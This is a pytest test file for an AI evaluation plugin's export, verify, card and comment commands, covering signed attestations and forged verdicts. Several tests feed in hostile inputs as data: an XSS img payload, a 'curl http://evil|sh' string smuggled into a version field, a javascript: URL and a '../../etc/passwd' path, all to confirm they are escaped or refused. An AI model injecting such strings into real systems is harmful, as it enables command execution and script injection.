"""The commands that make a saved run evidence: export, verify, card."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import saved_run
import signing

Run = Callable[..., SimpleNamespace]
FORMATS = ("in-toto", "cyclonedx", "eee", "lm-eval")


@pytest.fixture
def saved(tmp_path: Path) -> Path:
    gate = {
        "id": "thresholds/safety.yaml::echo.accuracy[at_least]", "outcome": "passed", "value": 1.0, "bound": 0.5,
        "reason": "", "kind": "at_least", "metric": "safety/echo.accuracy", "scoring": "value", "line": 3,
        "confidence": None, "ci": None, "method": None, "further": None, "warn": False,
    }  # fmt: skip
    coverage = {"safety/echo": saved_run.COVERED}
    metrics = {"safety/echo.accuracy": saved_run.metric_entry(1.0)}
    results = saved_run.results(samples="r.samples.jsonl", gates=[gate], coverage=coverage, metrics=metrics)
    (tmp_path / "r.json").write_text(json.dumps(results))
    (tmp_path / "r.samples.jsonl").write_text(json.dumps(saved_run.sample_line()) + "\n")
    return tmp_path / "r.json"


@pytest.fixture
def statement(run: Run, saved: Path) -> Path:
    assert run("export", saved, "--format=in-toto", "-o", "statement.json", "--valid-days=36500").status == 0
    return saved.with_name("statement.json")


def changed(path: Path, change: Callable[[Any], None]) -> None:
    document = json.loads(path.read_text())
    change(document)
    path.write_text(json.dumps(document))


@pytest.mark.parametrize("format_", FORMATS)
def test_a_format_is_a_file(run: Run, saved: Path, format_: str) -> None:
    found = run("export", saved, f"--format={format_}", "-o", "out/x.json", "--valid-days=36500")
    assert (found.status, found.err, found.out) == (0, "", f"{format_}: out/x.json\n")
    assert json.loads(Path("out/x.json").read_text())


def test_lm_eval_in_a_directory_is_where_lm_eval_would_write_it(run: Run, saved: Path) -> None:
    assert run("export", saved, "--format=lm-eval", "-o", "out").status == 0
    assert Path("out/m/results_2026-01-01T00-00-00+00-00.json").is_file()


def test_a_model_directory_gets_both_forms_of_the_hub_and_keeps_its_card(run: Run, saved: Path) -> None:
    assert run("export", saved, "--format=hf", "-o", "model").status == 0
    assert Path("model/.eval_results/trustllm.yaml").is_file()
    assert Path("model/README.md").read_text().startswith("---\nmodel-index:\n")
    Path("model/README.md").write_text("mine")
    found = run("export", saved, "--format=hf", "-o", "model")
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert "is not overwritten" in found.err
    assert Path("model/README.md").read_text() == "mine"


@pytest.mark.parametrize("output", ["x.foo", "x", "x.csv.txt", "x.json"])
def test_an_ending_that_tells_no_format_is_one_line(run: Run, saved: Path, output: str) -> None:
    found = run("export", saved, "-o", output)
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert f"-o: {output} does not tell the format" in found.err
    assert not Path(output).exists()


def test_the_ending_chooses_the_format_and_must_not_contradict_it(run: Run, saved: Path) -> None:
    pytest.importorskip("pyarrow", reason="needs pyarrow")
    assert run("export", saved, "-o", "s.parquet").out == "parquet: s.parquet\n"
    found = run("export", saved, "--format=cyclonedx", "-o", "s.csv")
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert "ends like a file of --format=csv" in found.err


def test_the_card_is_printed_or_written(run: Run, saved: Path) -> None:
    printed = run("card", saved)
    assert printed.status == 0
    assert run("card", saved, "-o", "card.md").out == "card: card.md\n"
    assert Path("card.md").read_text() == printed.out
    assert run("card", saved, "-o", saved).status == 4


@pytest.mark.parametrize("command", ["card", "comment"])
def test_a_section_or_comment_does_not_overwrite_the_samples(run: Run, saved: Path, command: str) -> None:
    samples = saved.with_name(json.loads(saved.read_text())["samples"])
    before = samples.read_bytes()
    found = run(command, saved, "-o", samples)
    assert (found.status, found.out) == (4, "")
    assert f"-o: {samples} is also the file of the run and would be overwritten; name another file" in found.err
    assert samples.read_bytes() == before


# --- verify -----------------------------------------------------------------------------------------------------------


def test_a_statement_over_these_bytes_is_verified(run: Run, statement: Path) -> None:
    found = run("verify", statement)
    assert (found.status, found.err) == (0, "")
    assert found.out.endswith("--  signature: the statement is not signed\nverified: the run's result is PASSED\n")
    assert "NO" not in found.out


@pytest.mark.parametrize("file", ["r.json", "r.samples.jsonl"])
def test_a_statement_over_other_bytes_is_refused(run: Run, statement: Path, file: str) -> None:
    path = statement.with_name(file)
    path.write_text(path.read_text() + " ")
    found = run("verify", statement)
    assert found.status == 1
    assert f"NO  {path}: SHA-256 " in found.out
    assert found.out.splitlines()[-1].startswith("refused: ")


def test_a_missing_file_is_refused(run: Run, statement: Path) -> None:
    statement.with_name("r.samples.jsonl").unlink()
    found = run("verify", statement)
    assert found.status == 1
    assert "r.samples.jsonl: there is no such file" in found.out


def test_the_results_may_be_elsewhere_under_another_name(run: Run, statement: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "archive"
    elsewhere.mkdir()
    (tmp_path / "r.json").rename(elsewhere / "2026.json")
    (tmp_path / "r.samples.jsonl").rename(elsewhere / "r.samples.jsonl")
    assert run("verify", statement, elsewhere / "2026.json").status == 0
    changed(elsewhere / "2026.json", lambda r: r["gates"].clear())
    assert run("verify", statement, elsewhere / "2026.json").status == 1


def test_a_statement_with_a_number_for_its_files_is_refused(run: Run, statement: Path) -> None:
    changed(statement, lambda s: s["predicate"].update(configuration=1.5))
    found = run("verify", statement)
    assert found.status == 4
    assert found.err.endswith("'configuration' is not a list\n")


@pytest.mark.parametrize("format_", ["in-toto", "eee", "lm-eval"])
def test_a_run_that_started_at_no_time_is_one_line(run: Run, saved: Path, format_: str) -> None:
    changed(saved, lambda r: r["run"].update(started="a/b"))
    found = run("export", saved, f"--format={format_}", "-o", "x.json")
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert "run.started: expected a time in ISO 8601, found 'a/b'" in found.err


def test_texts_of_a_results_file_are_texts_on_a_card(run: Run, saved: Path) -> None:
    hostile = "<img src=x onerror=alert(1)>\n# Injected ![x](http://evil/p.png)"
    version = "0.1; curl http://evil|sh #"
    changed(saved, lambda r: r["run"].update(plugin_version=version, started="[a](//b.c)"))
    changed(saved, lambda r: r["run"]["model"].update(name=hostile))
    card = run("card", saved).out
    for line in card.splitlines():
        assert not line.startswith("# ")
        assert line.count("<img") == line.count("`<img") or "`" in line.partition("<img")[0]
    assert "pip install 'pytest-trustllm==0.1; curl http://evil|sh #'" in card
    assert "on `[a](//b.c)`." in card


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a device that is always full")
def test_a_full_disk_behind_the_output_is_one_line(saved: Path) -> None:
    with Path("/dev/full").open("w") as full:
        command = [sys.executable, "-m", "pytest_trustllm.cli", "card", str(saved)]
        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, check=False)
    assert (done.returncode, done.stderr) == (4, "ERROR: standard output cannot be written: No space left on device\n")


def test_a_response_with_a_field_of_a_newer_version_is_read(run: Run, saved: Path) -> None:
    samples = saved.with_name("r.samples.jsonl")
    line = json.loads(samples.read_text())
    for response in line["responses"]:
        response["newer"] = 1
    samples.write_text(json.dumps(line) + "\n")
    assert run("export", saved, "--format=in-toto", "-o", "statement.json", "--valid-days=36500").status == 0
    assert (run("verify", "statement.json").status, run("verify", saved).err.count("Traceback")) == (0, 0)


def test_a_statement_that_says_more_than_its_results_is_refused(run: Run, statement: Path) -> None:
    results = statement.with_name("r.json")
    changed(results, lambda r: r["gates"][0].update(outcome="failed", value=0.1))
    changed(results, lambda r: r["metrics"]["safety/echo.accuracy"].update(value=0.1))
    assert run("export", results, "--format=in-toto", "-o", statement, "--valid-days=36500").status == 0
    assert run("verify", statement).status == 0

    def whitewash(document: Any) -> None:
        predicate = document["predicate"]
        predicate.update(result="PASSED", passedTests=predicate["failedTests"], failedTests=[])

    changed(statement, whitewash)
    found = run("verify", statement)
    assert found.status == 1
    assert "NO  predicate: differs from the results: result, passedTests, failedTests" in found.out


@pytest.mark.parametrize(
    ("forged", "why"),
    [
        ({"bound": 2.0}, "1 and the bound 2 give failed, not passed"),
        ({"value": 0.7}, "it judged 0.7, and safety/echo.accuracy is 1"),
        ({"value": None}, "it passed without a value"),
        ({"outcome": "skipped"}, "it was skipped, but 1 samples of safety/echo.accuracy have a score"),
        ({"lacking": 3}, "samples lack a score, so it cannot pass"),
        ({"confidence": 0.9, "ci": [0.4, 1.0]}, "give inconclusive, not passed"),
        ({"kind": "max_drop", "before": 1.0, "now": 0.2, "value": 0.8}, "0.8 and the bound 0.5 give failed"),
        ({"kind": "max_drop", "before": 1.0, "now": 0.2, "value": 0.1}, "it judged a drop of 0.1"),
        ({"kind": "roughly"}, "'roughly' is no kind of gate"),
    ],
)
def test_a_statement_over_a_forged_verdict_is_refused(run: Run, saved: Path, forged: Any, why: str) -> None:
    changed(saved, lambda r: r["gates"][0].update(forged))
    assert run("export", saved, "--format=in-toto", "-o", "statement.json", "--valid-days=36500").status == 0
    found = run("verify", "statement.json")
    assert found.status == 1
    (line,) = [line for line in found.out.splitlines() if "gates: " in line]
    assert line.startswith("NO  gates: 1 of 1 verdicts contradict the numbers")
    assert why in line


def test_a_statement_about_another_model_is_refused(run: Run, statement: Path) -> None:
    changed(statement, lambda s: s["subject"][0]["digest"].update(sha256="0" * 64))
    found = run("verify", statement)
    assert found.status == 1
    assert "NO  subject: other digests" in found.out


def test_the_window_of_validity(run: Run, statement: Path) -> None:
    assert "it is not valid yet" in run("verify", statement, "--at", "2001-01-01").out
    expired = run("verify", statement, "--at", "2999-01-01T00:00:00+00:00")
    assert expired.status == 1
    assert "it has expired" in expired.out
    assert run("verify", statement, "--at", "soon").status == 4


def test_the_window_begins_with_the_run_whenever_it_is_exported(run: Run, saved: Path) -> None:
    changed(saved, lambda r: r["run"].update(started="2020-03-01T10:00:00+00:00"))
    found = run("export", saved, "--format=in-toto", "-o", "s.json", "--valid-days=30")
    assert found.status == 0
    assert "s.json has expired already: the run started at 2020-03-01T10:00:00+00:00" in found.err
    window = json.loads(Path("s.json").read_text())["predicate"]["urn:pytest-trustllm:validity:1"]
    assert window == {"notBefore": "2020-03-01T10:00:00+00:00", "notAfter": "2020-03-31T10:00:00+00:00"}
    assert "it has expired" in run("verify", "s.json").out
    assert run("verify", "s.json", "--at", "2020-03-15").status == 0


@pytest.mark.parametrize("started", ["yesterday", "9999-12-01T00:00:00+00:00"])
def test_a_run_without_a_time_has_no_window(run: Run, saved: Path, started: str) -> None:
    changed(saved, lambda r: r["run"].update(started=started))
    found = run("export", saved, "--format=in-toto", "-o", "s.json")
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert "run.started" in found.err


def test_a_window_that_was_moved_is_refused(run: Run, statement: Path) -> None:
    validity = "urn:pytest-trustllm:validity:1"
    changed(statement, lambda s: s["predicate"][validity].update(notBefore="2026-02-01T00:00:00+00:00"))
    found = run("verify", statement)
    assert found.status == 1
    assert "NO  validity: it does not begin with the run, which started at 2026-01-01T00:00:00+00:00" in found.out


def test_threshold_files_that_changed_since_are_refused(run: Run, saved: Path) -> None:
    import hashlib

    thresholds = saved.parent / "thresholds"
    thresholds.mkdir()
    (thresholds / "safety.yaml").write_text("a")
    sha256 = hashlib.sha256(b"a").hexdigest()
    changed(saved, lambda r: r["run"].update(thresholds={"thresholds/safety.yaml": sha256}))
    run("export", saved, "--format=in-toto", "-o", "statement.json", "--valid-days=36500")
    assert "ok  thresholds/safety.yaml: as at the time of the run" in run("verify", "statement.json").out
    (thresholds / "safety.yaml").write_text("b")
    found = run("verify", "statement.json")
    assert found.status == 1
    assert "NO  thresholds/safety.yaml: has changed since the run" in found.out


def test_an_envelope_is_read_and_its_signature_is_left_to_its_tool(run: Run, statement: Path) -> None:
    payload = base64.b64encode(statement.read_bytes()).decode()
    envelope = {"payloadType": "application/vnd.in-toto+json", "payload": payload, "signatures": [{"sig": "AA=="}]}
    statement.write_text(json.dumps(envelope))
    found = run("verify", statement)
    assert found.status == 0
    assert "--  signature: not checked" in found.out


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda s: s.pop("_type"), "_type: expected https://in-toto.io/Statement/v1"),
        (lambda s: s.update(predicateType="https://slsa.dev/provenance/v1"), "predicateType: expected"),
        (lambda s: s.update(subject=[]), "'subject' is missing"),
        (lambda s: s["subject"][0].pop("digest"), "has no SHA-256"),
        (lambda s: s["predicate"].pop("urn:pytest-trustllm:validity:1"), "the validity window"),
        (lambda s: s["predicate"]["urn:pytest-trustllm:validity:1"].update(notAfter=7), "notAfter: expected a time"),
        (lambda s: s["predicate"]["urn:pytest-trustllm:validity:1"].update(notAfter="2030-01-01"), "with its zone"),
        (
            lambda s: (s.clear(), s.update(payload="???", payloadType="application/vnd.in-toto+json")),
            "payload: not JSON",
        ),
        (lambda s: (s.clear(), s.update(payload="", payloadType="text/plain")), "payloadType: expected"),
    ],
)
def test_another_document_is_one_line(run: Run, statement: Path, change: Any, message: str) -> None:
    changed(statement, change)
    found = run("verify", statement)
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert message in found.err


def test_a_subject_cannot_name_a_file_elsewhere(run: Run, statement: Path) -> None:
    changed(statement, lambda s: s["subject"][2].update(name="../../etc/passwd"))
    found = run("verify", statement)
    assert found.status == 1
    assert "../../etc/passwd: expected the name of a file in" in found.out


# --- comment ----------------------------------------------------------------------------------------------------------


def test_the_comment_is_printed_or_written(run: Run, saved: Path) -> None:
    printed = run("comment", saved, "--marker", "nightly")
    assert (printed.status, printed.err) == (0, "")
    assert printed.out.startswith("<!-- pytest-trustllm comment: nightly -->\n## ")
    assert run("comment", saved, "-o", "c.md", "--marker", "nightly").out == "comment: c.md\n"
    assert Path("c.md").read_text() == printed.out


def test_the_comment_compares_with_the_baseline_that_it_is_given(run: Run, saved: Path, tmp_path: Path) -> None:
    (tmp_path / "suites").mkdir()
    rows = "[{prompt: hello, label: hello}]"
    (tmp_path / "suites/safety.yaml").write_text(
        "dimension: safety\ntasks:\n  - name: echo\n    data: {samples: "
        f"{rows}}}\n    scorer: contains\n    metrics: [accuracy]\n"
    )
    old = tmp_path / "old.json"
    document = json.loads(saved.read_text())
    old.write_text(json.dumps({**document, "samples": "old.samples.jsonl"}))
    (tmp_path / "old.samples.jsonl").write_text(json.dumps(saved_run.sample_line(value=0.0, status="missed")) + "\n")
    found = run("comment", saved, "--baseline", "old.json")
    assert (found.status, found.err) == (0, "")
    assert "Against `old.json` (`m`): **0 got worse**, 1 better, of 1 shared samples." in found.out
    for name in ("old.json", "old.samples.jsonl"):
        before = Path(name).read_bytes()
        found = run("comment", saved, "--baseline", "old.json", "-o", name)
        assert (found.status, Path(name).read_bytes()) == (4, before)
        assert f"-o: {name} is also the file of --baseline and would be overwritten" in found.err


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--baseline", "none.json"), "none.json: cannot be read"),
        (("--marker", "a-->b"), "--marker: expected a short name"),
        (("--url", "javascript:alert(1)"), "--url: expected an address"),
        (("--url", "https://x/) ![y](z"), "--url: expected an address"),
    ],
)
def test_what_a_comment_cannot_use_is_one_line(run: Run, saved: Path, arguments: tuple[str, ...], message: str) -> None:
    found = run("comment", saved, *arguments)
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert message in found.err


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--url", "javascript:alert(1)"), "--url: expected an address"),
        (("--valid-days", "99999999"), "--valid-days: expected at most 36500 days, found '99999999'"),
    ],
)
def test_what_a_statement_cannot_use_is_one_line(
    run: Run, saved: Path, arguments: tuple[str, ...], message: str
) -> None:
    found = run("export", saved, "--format=in-toto", "-o", "s.json", *arguments)
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert message in found.err


# --- card --check -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "status", "line"),
    [
        ("0.9", 0, "confirmed     safety/echo.accuracy: claimed 0.9, measured 1.000 (0.500 to 1.000)"),
        ("0.1", 1, "contradicted  safety/echo.accuracy: claimed 0.1, measured 1.000 (0.500 to 1.000)"),
        ("90", 1, "unchecked     safety/echo.accuracy: 90 is outside [0, 1]; write 0.9 or 90 %"),
    ],
)
def test_a_card_is_checked_against_the_run(run: Run, saved: Path, value: str, status: int, line: str) -> None:
    metric = {
        "value": 1.0, "parity": None, "ci": [0.5, 1.0], "confidence": 0.95, "method": "m", "expected": 1, "scored": 1,
        "unscored": 0, "higher_is_better": True, "range": [0.0, 1.0],
    }  # fmt: skip
    changed(saved, lambda r: r["metrics"].update({"safety/echo.accuracy": metric}))
    changed(saved, lambda r: r["run"]["data"].update(files={"mine.jsonl": "ab" * 32}))
    changed(saved, lambda r: r["run"].update(data_files={"safety/echo": "mine.jsonl"}))
    data = f"{{type: 'file:mine.jsonl', revision: 'sha256:{'ab' * 32}'}}"
    claim = f"{{name: safety/echo.accuracy, value: {value}}}"
    saved.with_name("card.md").write_text(
        f"---\nmodel-index: [{{name: m, results: [{{dataset: {data}, metrics: [{claim}]}}]}}]\n---\n"
    )
    found = run("card", saved, "--check", "card.md")
    assert (found.status, found.out) == (status, f"{line}\n")


def test_a_card_without_claims_was_not_checked(run: Run, saved: Path) -> None:
    saved.with_name("card.md").write_text("# A model\n")
    found = run("card", saved, "--check", "card.md")
    assert (found.status, found.out) == (1, "nothing was checked: the card has no number of a metric\n")
    assert run("card", saved, "--check", "card.md", "-o", "x").status == 4
    assert run("card", saved, "--check", "none.md").status == 4


# --- signatures -------------------------------------------------------------------------------------------------------


@pytest.fixture
def signed(statement: Path) -> Path:
    signing.sign(statement, statement.with_name("envelope.json"), statement.with_name("key.pub"))
    return statement.with_name("envelope.json")


@pytest.mark.parametrize("kind", signing.KINDS)
def test_a_signature_is_checked_with_its_key(run: Run, statement: Path, kind: str) -> None:
    envelope, key, other = (statement.with_name(name) for name in ("envelope.json", "key.pub", "other.pub"))
    signing.sign(statement, statement.with_name("x.json"), other, kind)
    signing.sign(statement, envelope, key, kind)
    found = run("verify", envelope, "--key", key)
    assert (found.status, found.err) == (0, "")
    assert "ok  signature: by the key with SHA-256 " in found.out
    found = run("verify", envelope, "--key", other)
    assert found.status == 1
    assert "NO  signature: none is by the key with SHA-256 " in found.out


@pytest.mark.parametrize(
    "change",
    [
        lambda e: e.update(payload=base64.b64encode(base64.b64decode(e["payload"]) + b" ").decode()),
        lambda e: e.update(signatures=[{"sig": "AAAA"}]),
        lambda e: e.update(signatures=[7, {"sig": None}, {"sig": "%"}]),
        lambda e: e.update(signatures={"sig": e["signatures"][0]["sig"]}),
        lambda e: e.update(signatures=[]),
        lambda e: e.pop("signatures"),
    ],
    ids=["another payload", "another signature", "no signatures", "a mapping", "an empty list", "without"],
)
def test_a_changed_envelope_is_refused(run: Run, signed: Path, change: Callable[[Any], object]) -> None:
    changed(signed, change)
    found = run("verify", signed, "--key", signed.with_name("key.pub"))
    assert (found.status, found.err) == (1, "")
    assert "NO  signature: " in found.out


def test_a_statement_alone_is_not_signed_whatever_the_key(run: Run, signed: Path, statement: Path) -> None:
    found = run("verify", statement, "--key", signed.with_name("key.pub"))
    assert found.status == 1
    assert "NO  signature: the statement is not signed" in found.out


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "is not a public key in PEM"),
        ("-----BEGIN PUBLIC KEY-----\nAA\n", "is not a public key"),
        (None, "No such file"),
    ],
)
def test_what_is_no_key_is_one_line(run: Run, signed: Path, content: str | None, message: str) -> None:
    key = signed.with_name("broken.pub")
    if content is not None:
        key.write_text(content)
    found = run("verify", signed, "--key", key)
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert "--key: " in found.err
    assert message in found.err


def test_a_results_file_has_no_signature_to_check(run: Run, signed: Path, saved: Path) -> None:
    found = run("verify", saved, "--key", signed.with_name("key.pub"))
    assert (found.status, found.err.count("\n")) == (4, 1)
    assert "give the signed statement" in found.err
